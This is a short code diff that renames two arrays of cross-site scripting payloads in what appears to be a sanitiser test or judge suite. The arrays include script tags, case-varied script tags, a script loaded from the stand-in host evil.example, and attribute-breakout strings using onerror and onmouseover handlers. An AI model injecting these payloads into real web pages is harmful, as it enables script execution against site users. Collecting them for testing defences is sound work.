@@ -4,7 +4,7 @@ import { ATTACK } from './judge-markup.js';
 const CALL = `${ATTACK}(1)`;
 
 /** Markup that runs script by itself. */
-export const CODE: readonly string[] = [
+export const SCRIPT_MARKUP: readonly string[] = [
   `<script>${CALL}</script>`,
   `<ScRiPt>${CALL}</sCrIpT\n>`,
   '<script src=//evil.example></script>',
@@ -36,7 +36,7 @@ export const CODE: readonly string[] = [
 ];
 
 /** Texts that end what is around them, and go on with script. */
-export const OUTBREAKS: readonly string[] = [
+export const ESCAPING_TEXTS: readonly string[] = [
   `' src=x onerror=${CALL} y=`,
   `' src=x onerror=${CALL} y="`,
   `" onmouseover=${CALL} "`,
